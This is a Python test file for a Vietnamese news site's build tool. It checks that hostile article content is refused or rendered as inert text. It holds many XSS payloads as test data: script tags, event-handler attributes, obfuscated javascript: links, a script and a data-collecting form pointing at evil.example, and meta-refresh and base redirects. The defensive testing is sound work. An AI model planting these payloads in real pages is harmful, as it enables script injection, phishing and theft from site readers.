"""Hostile articles: nothing an editor's file carries may run in a reader's browser.

Each attack either stops the build naming the file and line (and ``invoke check``
says the same), or builds into pages where a scan finds no active content and
the hostile text shows as text.
"""

import pytest
from PIL import Image

from active_content import active_content, scan_site
from bantin.build import BuildError
from bantin.editor.checker import check
from bantin.build import load_settings
from conftest import ROOT, build_site, reader_pages, soup, write_raw

SETTINGS = load_settings(str(ROOT / "pelicanconf.py"))
HEAD = "---\ntitle: {title}\ndate: 2022-06-{day:02d} 10:32\ncategory: Thông báo\n"

# Front-matter values are text: (file, extra front matter, text that must show on the page).
FIELDS = [
    ("title-script", "title: Tin <script>alert(1)</script> mới\n", "Tin <script>alert(1)</script> mới"),
    ("title-img", "title: '<img src=x onerror=alert(1)>'\n", "<img src=x onerror=alert(1)>"),
    ("title-entity", "title: Tin &lt;script&gt;alert(1)&lt;/script&gt;\n",
     "Tin &lt;script&gt;alert(1)&lt;/script&gt;"),
    ("source", "source: <svg/onload=alert(1)>\n", "<svg/onload=alert(1)>"),
    ("summary", "summary: <a href=\"javascript:alert(1)\">bấm vào đây</a>\n",
     "<a href=\"javascript:alert(1)\">bấm vào đây</a>"),
    ("summary-quote", "summary: x\" onmouseover=\"alert(1)\n", "x\" onmouseover=\"alert(1)"),
    ("tags", "tags: ['<script>alert(1)</script>', 'an \" onmouseover=\"alert(1)']\n",
     "<script>alert(1)</script>"),
    ("caption", "gallery:\n- file: anh.jpg\n  caption: <img src=x onerror=alert(1)>\n"
     "  alt: x\" onerror=\"alert(1)\n", "<img src=x onerror=alert(1)>"),
    ("cover-name", "cover: 'a\" onerror=\"alert(1) b.jpg'\n", None),
    ("json-ld", "title: Tin </script><script>alert(1)</script>\n",
     "Tin </script><script>alert(1)</script>"),
]

# Bodies with active content: (name, body, line of the body it is on, message).
BODIES = [
    ("script", "<script>alert(1)</script>", 1, "active content <script> is not allowed in an article"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", 1,
     "active content <script> is not allowed in an article"),
    ("svg-onload", "<svg/onload=alert(1)>", 1, "active content <svg> is not allowed in an article; "
     "save the drawing as a PNG file"),
    ("img-newline", "Ảnh:\n\n<img src=x\nonerror=alert(1)>", 3,
     "event handler attribute 'onerror=' is not allowed in an article"),
    ("entity-javascript", '<a href="&#106;avascript:alert(1)">bấm</a>', 1,
     "'javascript:' links are not allowed in an article"),
    ("colon-entity", '<a href="javascript&colon;alert(1)">bấm</a>', 1,
     "'javascript:' links are not allowed in an article"),
    ("tab-in-scheme", '<a href="java\tscript:alert(1)">bấm</a>', 1,
     "'javascript:' links are not allowed in an article"),
    ("markdown-link", "Xem [tại đây](javascript:alert(1)).", 1,
     "'javascript:' links are not allowed in an article"),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', 1, "'vbscript:' links are not allowed in an article"),
    ("data-url", '<img src="data:text/html;base64,PHNjcmlwdD4=" alt="x">', 1,
     "'data:' addresses are not allowed in an article"),
    ("iframe-multiline", 'Video:\n\n<iframe\n  src="https://quangcao.example/x">\n</iframe>', 3,
     "<iframe> from 'quangcao.example' is not on the embed allow-list "
     "(BANTIN_CHECK['embed_hosts'] in pelicanconf.py)"),
    ("iframe-http", '<iframe src="http://www.youtube.com/embed/x"></iframe>', 1,
     "<iframe> from 'www.youtube.com' is not on an https:// address"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', 1,
     "<iframe srcdoc=…> is not allowed in an article"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', 1,
     "active content <meta> is not allowed in an article; it can redirect the page"),
    ("base", '<base href="https://evil.example/">', 1,
     "active content <base> is not allowed in an article; it changes every link of the page"),
    ("details", "<details ontoggle=alert(1) open>x</details>", 1,
     "event handler attribute 'ontoggle=' is not allowed in an article"),
    ("form", '<form action="https://evil.example"><input name="cccd"></form>', 1,
     "active content <form> is not allowed in an article"),
    ("object", '<object data="x.swf"></object>', 1, "active content <object> is not allowed in an article"),
    ("embed", '<embed src="x.swf">', 1, "active content <embed> is not allowed in an article"),
    ("style", "<style>body{display:none}</style>", 1, "active content <style> is not allowed in an article"),
    ("attr-list", 'Đoạn văn.\n{: onclick="alert(1)"}', 2,
     "event handler attribute 'onclick=' is not allowed in an article"),
    ("iframe-backslash", '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>', 1,
     "<iframe> address with a backslash is not allowed (browsers read it as another host)"),
    ("math", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
     1, "active content <math> is not allowed in an article"),
]

# Bodies that are not active but not ours either: built, cleaned by the allow-list.
CLEANED = [
    ("comment", "<!--<script>alert(1)</script>--> Nội dung."),
    ("style-attr", '<p style="position:fixed;top:0">Nội dung.</p>'),
    ("entities-as-text", "Gõ &lt;script&gt;alert(1)&lt;/script&gt; là văn bản."),
    ("code", "Mã `<script>alert(1)</script>` trong bài.\n\n    <img src=x onerror=alert(1)>"),
    ("theme-id", '<p id="q">Nội dung.</p>'),
    ("allowed-embed", '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video"></iframe>'),
]


def _jpeg(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (640, 480), (30, 90, 150)).save(path, "JPEG")


@pytest.fixture(scope="module")
def hostile_fields_site(tmp_path_factory):
    base = tmp_path_factory.mktemp("fields")
    content = base / "content"
    for day, (name, extra, _text) in enumerate(FIELDS, start=1):
        title = "" if extra.startswith("title:") else f"title: Tin {name}\n"
        head = HEAD.format(title="X", day=day).replace("title: X\n", title or "")
        if not title:
            head = head.replace("---\n", "---\n" + extra, 1)
            extra = ""
        write_raw(content, f"2022/{name}.md", head + extra + f"slug: tin-{name}\n---\nNội dung.\n")
        folder = content / "images" / "2022" / f"tin-{name}"
        _jpeg(folder / "anh.jpg")
        _jpeg(folder / 'a" onerror="alert(1) b.jpg')
    return build_site(content, base / "output")


def test_front_matter_is_text_on_every_page(hostile_fields_site):
    assert scan_site(hostile_fields_site) == {}


@pytest.mark.parametrize("name,extra,text", FIELDS, ids=[f[0] for f in FIELDS])
def test_hostile_value_shows_as_text(hostile_fields_site, name, extra, text):
    page = soup(hostile_fields_site / f"tin-{name}.html")
    if text is None:  # the file name: published under a clean, encoded name
        cover = page.select_one(".cover img")
        assert cover is not None and '"' not in cover["src"] and " " not in cover["src"]
        for source in page.select(".cover source"):
            assert all(" " not in part.strip().split(" ")[0] for part in source["srcset"].split(","))
        return
    shown = page.get_text(" ")
    assert text in shown
    if extra.startswith("title"):
        assert page.h1.get_text() == text
        home = (hostile_fields_site / "index.html").read_text(encoding="utf-8")
        assert not active_content(home)


def test_hostile_bodies_stop_the_build_and_check_names_them(tmp_path):
    content = tmp_path / "content"
    expected = []
    for day, (name, body, line, message) in enumerate(BODIES, start=1):
        head = HEAD.format(title=f"Tin {name}", day=day % 28 + 1) + f"slug: tin-{name}\n---\n"
        write_raw(content, f"2022/{name}.md", head + body + "\n")
        expected.append(f"content/2022/{name}.md:{head.count(chr(10)) + line}: {message}")
    with pytest.raises(BuildError) as info:
        build_site(content, tmp_path / "output")
    got = str(info.value).splitlines()
    for line in expected:
        assert line in got
    assert not (tmp_path / "output").exists()
    checked = [str(p) for p in check(content, SETTINGS) if p.severity == "error"]
    for line in expected:
        assert line in checked


def test_cleaned_bodies_build_without_active_content(tmp_path):
    content = tmp_path / "content"
    for day, (name, body) in enumerate(CLEANED, start=1):
        head = HEAD.format(title=f"Tin {name}", day=day) + f"slug: tin-{name}\n---\n"
        write_raw(content, f"2022/{name}.md", head + body + "\n")
    assert [str(p) for p in check(content, SETTINGS) if p.severity == "error"] == []
    out = build_site(content, tmp_path / "output")
    assert scan_site(out) == {}
    assert "<script>alert(1)</script>" in soup(out / "tin-entities-as-text.html").get_text()
    assert soup(out / "tin-theme-id.html").find(id="q").name == "input"
    frame = soup(out / "tin-allowed-embed.html").find("iframe")
    assert frame["src"] == "https://www.youtube-nocookie.com/embed/abc"
    assert "allow-scripts" in frame["sandbox"] and "allow-top-navigation" not in frame["sandbox"]


def test_every_page_carries_the_csp_meta(hostile_fields_site):
    for path in reader_pages(hostile_fields_site):  # /quan-tri/ has its own (test_cms)
        meta = soup(path).find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert meta is not None, path
        policy = meta["content"]
        assert "script-src 'self';" in policy and "'unsafe-inline'" not in policy
        assert "frame-src https://www.youtube-nocookie.com https://www.youtube.com" in policy
        assert "frame-ancestors" not in policy  # ignored in a <meta>; it stays in _headers


def test_photo_saved_on_a_mac_is_found_and_published_under_a_clean_name(tmp_path):
    import unicodedata
    content = tmp_path / "content"
    write_raw(content, "2022/mac.md", HEAD.format(title="Ảnh từ máy Mac", day=3)
              + "slug: anh-tu-may-mac\ncover: ảnh đầu.jpg\ngallery:\n- file: Ảnh 2.jpg\n"
              "  caption: Ảnh thứ hai\n---\nNội dung.\n")
    folder = content / "images" / "2022" / "anh-tu-may-mac"
    for name in ("ảnh đầu.jpg", "Ảnh 2.jpg"):
        _jpeg(folder / unicodedata.normalize("NFD", name))
    assert [str(p) for p in check(content, SETTINGS)] == []
    out = build_site(content, tmp_path / "output")
    page = soup(out / "anh-tu-may-mac.html")
    urls = [page.select_one(".cover img")["src"], page.select_one(".gallery img")["src"]]
    urls += [u.strip().split(" ")[0] for s in page.select("source") for u in s["srcset"].split(",")]
    for url in urls:
        assert url.isascii() and " " not in url, url
        assert (out / url.lstrip("./")).is_file(), url


# Pelican resolves {filename}/{static}/{index} after the reader, with a regex over the HTML:
# what comes out is checked again (found by a hostile review).
REWRITTEN = [
    ("placeholder-scheme", '<a href="{}javascript:alert(1)">x</a>',
     "'javascript:' links are not allowed in an article (after its links were resolved)"),
    ("placeholder-markdown", "[x]({index}javascript:x?%0Aalert(2))",
     "'javascript:' links are not allowed in an article (after its links were resolved)"),
    ("placeholder-quote", "Đoạn <abbr title=\"src='{index}\">UBND' \" tabindex=0 autofocus "
     "onfocus=alert(1) x=\"</abbr> cuối.",
     "a tag is never closed (a quote or '>' is missing) (after its links were resolved)"),
    ("static-file-name", '<a href="{static}/extra/a%22%20onmouseover%3D%22alert(2)%22%20x%3D%22">x</a>',
     "event handler attribute 'onmouseover=' is not allowed in an article (after its links "
     "were resolved)"),
]


@pytest.mark.parametrize("name,body,message", REWRITTEN, ids=[r[0] for r in REWRITTEN])
def test_links_resolved_by_pelican_are_checked_again(tmp_path, name, body, message):
    content = tmp_path / "content"
    write_raw(content, "2022/bai.md", HEAD.format(title="Tin", day=3) + "slug: tin\n---\n" + body + "\n")
    (content / "extra").mkdir()
    (content / "extra" / 'a" onmouseover="alert(2)" x="').write_text("x")
    with pytest.raises(BuildError) as info:
        build_site(content, tmp_path / "output")
    assert str(info.value) == f"content/2022/bai.md: {message}"
    assert not (tmp_path / "output").exists()


def test_markdown_that_would_take_minutes_is_stopped_with_the_line():
    from bantin.core import frontmatter, safety
    converter = safety.markdown_converter(SETTINGS)
    for body in ("<a " * 20000, "<http://a" * 20000, "a\n=\n" * 20000):
        doc = frontmatter.Document(path="content/a.md", body=body, body_line=6)
        html, problems = safety.render_body(doc, converter, seconds=0.5)
        assert html == "" and [str(p) for p in problems] == [
            "content/a.md:6: the text takes over 0.5 s to convert (a very long run of unclosed "
            "tags, headings or nested lists?); simplify it or split the article"]
    doc = frontmatter.Document(path="content/a.md", body="Xin *chào*", body_line=6)
    assert safety.render_body(doc, converter) == ("<p>Xin <em>chào</em></p>", [])  # afresh


def test_character_reference_of_thousands_of_digits_is_no_traceback():
    from bantin.core import frontmatter, safety
    doc = frontmatter.Document(path="content/a.md", body="&#" + "1" * 5000 + ";", body_line=6)
    html, problems = safety.render_body(doc, safety.markdown_converter(SETTINGS))
    assert (html, problems) == ("<p>\ufffd</p>", [])


def test_comment_read_differently_by_two_parsers_publishes_nothing_active(tmp_path):
    """Python 3.11's html.parser does not end a comment at "--!>", browsers do (round 2)."""
    content = tmp_path / "content"
    (content / "extra").mkdir(parents=True)
    (content / "extra" / 'q"><!--x--!><img srcset=data:,x><!--y-->.png').write_text("x")
    write_raw(content, "2024/bai.md", HEAD.format(title="Tin", day=3) + "slug: tin\n---\n"
              "Mở đầu.\n\n<img title=\"x src='{static}../extra/q%22%3E%3C%21--x--%21%3E%3Cimg"
              "%20srcset%3Ddata%3A%2Cx%3E%3C%21--y--%3E.png'\" src=\"https://e.org/a.png\">\n")
    out = build_site(content, tmp_path / "output")
    assert scan_site(out) == {}
    for feed in (out / "feeds").glob("*.xml"):
        assert "data:" not in feed.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["trang.html", "anh.svg", "ma.js"])
def test_pages_and_scripts_are_not_copied_as_they_are(tmp_path, name):
    content = tmp_path / "content"
    write_raw(content, "2022/bai.md", HEAD.format(title="Tin", day=3) + "---\nNội dung.\n")
    (content / "extra").mkdir()
    (content / "extra" / name).write_text("<script>alert(1)</script>")
    with pytest.raises(BuildError) as info:
        build_site(content, tmp_path / "output")
    assert str(info.value).startswith(f"content/extra/{name}: files copied as they are may not "
                                      "be pages, scripts or SVG drawings")


def test_bodies_that_would_hold_the_sanitiser_are_refused_quickly():
    import time
    from bantin.core import frontmatter, safety
    converter = safety.markdown_converter(SETTINGS)
    cases = {
        "<div>\n" + "".join(f"<b title={i}>x" for i in range(16000)) + "\n</div>":
            "content/a.md:7: tags are nested (or left open) over 200 deep; close them",
        "x\n" + "".join(f"<b onclick={i}>\n" for i in range(8000)):
            "content/a.md:7: event handler attribute 'onclick=' is not allowed in an article",
    }
    for body, first in cases.items():
        started = time.process_time()
        doc = frontmatter.Document(path="content/a.md", body=body, body_line=6)
        html, problems = safety.render_body(doc, converter)
        assert time.process_time() - started < 4
        assert html == "" and str(problems[0]) == first and len(problems) <= 50


def test_legacy_page_ending_in_unclosed_tags_is_refused_at_once():
    import time
    from bantin.legacy.html_pages import parse_html
    from bantin.legacy.text_pages import LegacyError
    page = ("<html><body><h1>Tin</h1><p>Thứ hai - 06/06/2022 08:00</p><p>x" + "<a " * 19990)
    started = time.process_time()
    with pytest.raises(LegacyError, match="the page ends inside unclosed tags"):
        parse_html(page)
    assert time.process_time() - started < 1
